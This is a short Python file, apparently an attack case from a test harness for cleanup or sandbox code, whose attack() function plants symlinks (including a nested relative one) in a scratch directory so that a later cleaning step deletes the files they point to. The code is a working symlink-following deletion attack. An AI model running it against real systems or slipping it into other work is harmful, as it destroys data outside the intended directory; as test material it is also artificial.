# Leaves links in scratch so that cleaning deletes what they point to.
# proof: outside
# control: none, because only the cleaning afterwards is under attack
import os


def attack(arg):
    os.symlink(arg["target"], "link")
    os.mkdir("real")
    os.symlink("../link", "real/again")
    return True
